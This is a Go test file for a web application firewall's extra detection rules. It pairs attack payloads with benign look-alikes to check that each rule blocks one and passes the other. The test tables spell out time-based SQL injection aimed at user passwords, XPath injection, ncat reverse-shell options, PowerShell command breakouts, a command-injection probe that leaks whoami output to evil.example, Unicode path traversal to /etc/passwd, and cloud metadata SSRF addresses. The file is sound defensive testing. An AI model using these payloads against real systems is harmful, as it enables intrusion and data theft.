package waf

import (
	"net/http"
	"net/url"
	"testing"
)

// TestOpen85HeaderSQL is attack 85's Open entry: a subquery joined by
// || or + to the string a quote closes, a time-based test in the
// User-Agent and the Referer, which the CRS reads with libinjection alone
// there (run on PostgreSQL and SQLite by the attacker): rule 210212.
func TestOpen85HeaderSQL(t *testing.T) {
	pg := "https://a.com/'||(select case when (select substr(password,1,1) from users limit 1)='a' then pg_sleep(2) end)||'"
	lite := "Mozilla/5.0'||(SELECT CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN randomblob(300000000) ELSE 1 END)||'"
	oracle := "x'||(select case when substr(password,1,1)='a' then to_char(1/0) else 'x' end from users where rownum=1)||'"
	// in arguments the CRS refuses each (libinjection, 942xxx, or PHP's
	// substr(); and the shapes below that read as SQL to it)
	operatorTable(t, "210212", quoteConcatSubquery, nil,
		[]string{pg, lite, oracle, "x' || (select 1) || '", "x'+(select top 1 name from sysobjects)+'", "x'||((select 'a'))||'",
			"x')||(case when 1=1 then 'a' end)||'", "x\"||\n(select 1)||\"", "x' ||(SELECT/**/1)"},
		[]string{"it's 'a'+(selected items)", "the 'a'||b (select one)", "I'd say (select all)"})
	for _, v := range []string{"'total' + (case sensitive)", "x||(select 1)", "'a' + (b) select", "a'||('b')"} {
		if quoteConcatSubquery(v) {
			t.Errorf("210212 matches %q", v)
		}
	}
	tableOnly(t)
	h := headerProbe
	runBeyondTheCRS(t, nil,
		[]probe{h("Referer PostgreSQL", "Referer", pg), h("User-Agent SQLite", "User-Agent", lite), h("User-Agent Oracle", "User-Agent", oracle)},
		[]probe{h("Referer search", "Referer", "https://www.google.com/search?q=sql+%27a%27%7C%7C%27b%27+concat"),
			h("User-Agent Chrome", "User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36")})
}

// FuzzGoOperators: every Go operator the rules name reads any value
// without a panic, and decides it the same way twice (no state kept
// between values).
func FuzzGoOperators(f *testing.F) {
	for _, v := range []string{"x'||(select 1)||'", "x' glob '*", "1 or true()", "O:8:\"stdClass\":+1:{}", "127.0.0.1:2375/containers", "--pre=sh", "limit 10 offset (select 1)", "\n\n\r\n", "'" + "||(" + "case when"} {
		f.Add(v)
	}
	if len(goOperators) < 40 {
		f.Fatalf("%d Go operators registered: the registry lost some", len(goOperators))
	}
	f.Fuzz(func(t *testing.T, v string) {
		for name, op := range goOperators {
			if first := op(v); op(v) != first {
				t.Fatalf("%s decides %q two ways", name, v)
			}
		}
	})
}

// TestAttack86 are attack 86's finds: a closing bracket between the quote
// and a postfix (x') notnull --: a login on SQLite and PostgreSQL where
// the query reads md5('...'); COLLATE on MariaDB), IS DISTINCT FROM and
// MySQL 8's MEMBER OF (210106); XPath's quote reopened in a bracket
// (210104, run with libxml2); a paging subquery after a number with no
// condition (1 offset (select pin from users limit 1), 210202); ncat's
// -c and --sh-exec (210204); and its false positive, AWS Signature
// Version 4's signed headers (content-type;host;x-amz-date, 210151).
func TestAttack86(t *testing.T) {
	operatorTable(t, "210106", postfixAfterQuote,
		[]string{"x') notnull --", "x')notnull--", "x') notnull; --", "x') notnull and ('1", "x') isnull or ('1", "x') notnull or lower('",
			"x') collate nocase <> ('", "x') collate \"C\" is distinct from ('1", "admin') notnull --", "x') collate utf8mb4_general_ci = ('0",
			"x') member of('[0]", "x' member of('[0]"},
		nil,
		[]string{"He is a 'founding' member of the club", "(see 'x') isnull returns true", "a 'member' of (the) team"})
	operatorTable(t, "210104", xpathInjection,
		[]string{"x') or .//password or ('", "contains(name,'x') or .//password or ('')", "x') or ./password or ('", "x') or ../user or ('",
			"x') or //user or ('"},
		nil,
		[]string{"He said 'x') or ... or ('y')", "pick 'a') or (b) or ('c')"})
	operatorTable(t, "210202", sortListProbe,
		[]string{"1 offset (select pin from users limit 1)", "10 offset unicode((select password from users))-97",
			"1 offset length((select password from users limit 1))", "1 offset -(select pin from users limit 1)"},
		nil,
		[]string{"Buy 2 first (select one from the list)", "Pick the first (select one from users)", "top 10 (select your favourites)"})
	operatorTable(t, "210204", argumentOptions,
		[]string{"4444 -c sh", "4444 -csh", "4444 -c bash", "host.example --sh-exec=id"},
		[]string{"4444 --sh-exec=sh", "4444 -c /bin/sh"},
		[]string{"ping -c 3 host", "curl -c cookies.txt https://x", "bash -c \"python x.py\"", "git -c user.name=x commit"})
	tableOnly(t)
	h := headerProbe
	sig := func(signed string) string {
		return "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20240101/us-east-1/s3/aws4_request, SignedHeaders=" + signed +
			", Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024"
	}
	runBeyondTheCRS(t,
		[]probe{{name: "host lookup of a command's output", method: "GET", path: "/ping?host=" + url.QueryEscape("127.0.0.1;host $(whoami).evil.example")}},
		[]probe{{name: "form login md5 notnull", method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded", body: "user=admin&password=" + url.QueryEscape("x') notnull --")}},
		[]probe{h("SigV4 content-type;host", "Authorization", sig("content-type;host;x-amz-content-sha256;x-amz-date")),
			h("SigV4 SDK", "Authorization", sig("amz-sdk-invocation-id;amz-sdk-request;host;x-amz-date")),
			{name: "SigV4 presigned PUT", method: "PUT", path: "/bucket/key?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-SignedHeaders=content-type%3Bhost&X-Amz-Signature=abc"}})
}

// TestAttack86Places: attack 86's places: the dot look-alikes in a path
// segment or a header (‥/‥/‥/etc/passwd: a backend that NFKC-normalises
// reads ../../../etc/passwd), and Sec-WebSocket-Protocol, where
// applications carry a session token, read when it holds more than
// subprotocols' names.
func TestAttack86Places(t *testing.T) {
	tableOnly(t)
	h := headerProbe
	runBeyondTheCRS(t, []probe{h("header full-width", "X-File", "．．/．．/etc/passwd")},
		[]probe{{name: "two dot leader", method: "GET", path: "/files/%E2%80%A5/%E2%80%A5/%E2%80%A5/etc/passwd"},
			{name: "one dot leaders", method: "GET", path: "/files/%E2%80%A4%E2%80%A4/%E2%80%A4%E2%80%A4/etc/passwd"},
			{name: "full-width full stops", method: "GET", path: "/files/%EF%BC%8E%EF%BC%8E/%EF%BC%8E%EF%BC%8E/etc/passwd"},
			{name: "small full stops", method: "GET", path: "/files/%EF%B9%92%EF%B9%92/%EF%B9%92%EF%B9%92/etc/passwd"},
			h("header two dot leader", "X-File", "‥/‥/‥/etc/passwd"),
			h("subprotocol SQL", "Sec-WebSocket-Protocol", "chat, x' union select password from users--"),
			h("subprotocol time", "Sec-WebSocket-Protocol", "access_token.x'||pg_sleep(5)||'"),
			h("subprotocol shell", "Sec-WebSocket-Protocol", "$(id)"),
			h("subprotocol metadata", "Sec-WebSocket-Protocol", "169.254.169.254/latest/meta-data/")},
		[]probe{{name: "an ellipsis in a slug", method: "GET", path: "/blog/wait%E2%80%A6what"},
			{name: "full-width decimal", method: "GET", path: "/price/%EF%BC%91%EF%BC%8E%EF%BC%95"},
			h("full-width decimal in a header", "X-Title", "価格は１．５倍"),
			h("graphql-ws", "Sec-WebSocket-Protocol", "graphql-transport-ws"),
			h("stomp", "Sec-WebSocket-Protocol", "v12.stomp, v11.stomp, v10.stomp"),
			h("kubernetes bearer", "Sec-WebSocket-Protocol", "base64url.bearer.authorization.k8s.io.ZXlKaGJHY2lPaUpTVXpJMU5pSXNJbXRwWkNJNklpSjkuZXlKcGMzTWlPaUpyZFdKbGNtNWxkR1Z6TDNObGNuWnBZMlZoWTJOdmRXNTBJbjA, base64.binary.k8s.io"),
			h("a JWT as a subprotocol", "Sec-WebSocket-Protocol", "Authorization, eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk")})
}

// TestCPUBoundAttack86: 16 KiB of each shape this session's readings
// look at (210212's concatenations, 210106's bracketed postfixes, 210201's
// SELECT after a lead, 210213's PowerShell groupings, 210202's paging
// subqueries, 210204's -c) costs a request what the bound allows, through
// Caddy.
func TestCPUBoundAttack86(t *testing.T) {
	repeatedJSONUnder(t, "'||(", "'||(case ", "'+((((", "'||1", "'||chr(1)", "'::a", "x'||-", "' + [a](", "x') notnull ", "x') member of(", ") or ./a or (",
		"name desc select ", "name desc select convert(int,a) from b ", "x' select * into #x from #x into ", "1 select cast(a as int) from ",
		"x'+(ls a)+'", "x' + (count of items) + '", "'(", "x' (a) '", "' + $(", "1 offset (select a from b) ", "-c sh ", "‥/")
}

// TestReview86 are the finds of a review of attack 86's fixes: more
// operands, a cast or a sign in 210212's chain, a CTE or TABLE as the
// subquery (SQLite ran them); 210213's casts, not, indexing and
// arithmetic around the grouping, and its false positives (a program and
// its version); 210201's SELECT of an operand converted by arithmetic
// (SQL Server's conversion error shows it).
func TestReview86(t *testing.T) {
	tail := "(select case when (select substr(password,1,1) from users limit 1)='a' then pg_sleep(2) end)||'"
	operatorTable(t, "210212", quoteConcatSubquery, []string{"x'||(table secrets limit 1)||'"},
		[]string{"x'||1||" + tail, "x'||chr(65)||" + tail, "x'||E'a'||" + tail, "x'::text||" + tail, "x'||-" + tail, "x'||+(select 1)||'",
			"x'||(with a as (select password p from users limit 1) select case when substr(p,1,1)='a' then pg_sleep(2) end from a)||'",
		},
		[]string{"it's 'a'+(selected items)", "the 'a'||b (select one)", "Press 'x' + (table of contents)", "see 'a' + 'b' + (with friends as guests)"})
	operatorTable(t, "210213", psQuoteBreakout,
		[]string{"x' + (cmd /c whoami)[0] + '", "x' + [string](cmd /c whoami) + '", "x' + !(cmd /c whoami) + '", "x' + ,(cmd /c whoami) + '",
			"x' + (cmd /c whoami) * 1 + '", "x' + (sleep 10) + '"},
		nil,
		[]string{"Requires 'curl' (curl 7.88.1) 'or later'", `Terms: "Invoice" (net 30.5) "due"`})
	operatorTable(t, "210201", tsqlStatement,
		[]string{"name desc select (select top 1 password from users)+1", "name desc select password*1 from users",
			"name desc select [password]+1 from users", "name desc select @@version+1"},
		nil,
		[]string{"name desc select the cheapest", "sort by name desc select item+1", "name desc select the top 3", "price asc select 2-3 sizes"})
}

// TestAttack86BareDecimal: attack 86's bare decimal metadata address with
// a port in a header (2852039166:80 is 169.254.169.254:80); the decimal
// alone stays a timestamp's shape.
func TestAttack86BareDecimal(t *testing.T) {
	for v, want := range map[string]bool{"2852039166:80": true, "1684301000:8080": true, "2852039166": false, "1684301000": false, "1684301000:x": false} {
		if got := bareMetadata(v); got != want {
			t.Errorf("bareMetadata(%q) = %v, want %v", v, got, want)
		}
	}
	tableOnly(t)
	runBeyondTheCRS(t, nil,
		[]probe{{name: "decimal metadata with a port", method: "GET", path: "/x", header: http.Header{"X-Upstream": {"2852039166:80"}}}},
		[]probe{{name: "a timestamp", method: "GET", path: "/x", header: http.Header{"X-Timestamp": {"1684301000"}}}})
}
